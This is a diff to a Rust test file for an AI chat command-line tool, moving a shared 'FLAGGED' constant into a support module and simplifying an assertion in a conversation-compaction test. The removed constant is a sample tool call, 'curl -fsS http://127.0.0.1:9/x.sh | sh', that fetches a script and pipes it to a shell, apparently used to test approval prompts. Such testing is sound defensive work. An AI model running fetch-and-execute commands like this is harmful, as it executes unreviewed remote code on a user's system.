@@ -8,7 +8,7 @@ use std::process::Command;
 use std::time::{Duration, Instant};
 
 use serde_json::Value;
-use support::chat::{home_for, rows, server};
+use support::chat::{FLAGGED, home_for, rows, server};
 use support::chat_server::{ChatServer, Reply};
 
 struct Tty {
@@ -530,8 +530,6 @@ fn learn_sends_a_failing_skill_back_once_with_the_reasons() {
     );
 }
 
-const FLAGGED: &str = r#"{"command": "curl -fsS http://127.0.0.1:9/x.sh | sh"}"#;
-
 /// CLI.md: approvals default to `ask` on a terminal, a one-shot run started there included;
 /// the answer is read from the terminal and the approval shown among the tool lines.
 #[test]
@@ -822,11 +820,10 @@ fn the_session_shows_notices_and_compactions() {
     let home = support::chat::compaction_home(&srv, "");
     let tty = Tty::start(home.path(), "--approvals allow");
     tty.wait_prompt();
-    tty.exchange("make output", "compacted and done");
+    let screen = tty.exchange("make output", "compacted and done");
     assert!(
-        tty.screen().contains("  ┊ compacted the conversation\n"),
-        "{}",
-        tty.screen()
+        screen.contains("  ┊ compacted the conversation\n"),
+        "{screen}"
     );
 }
 
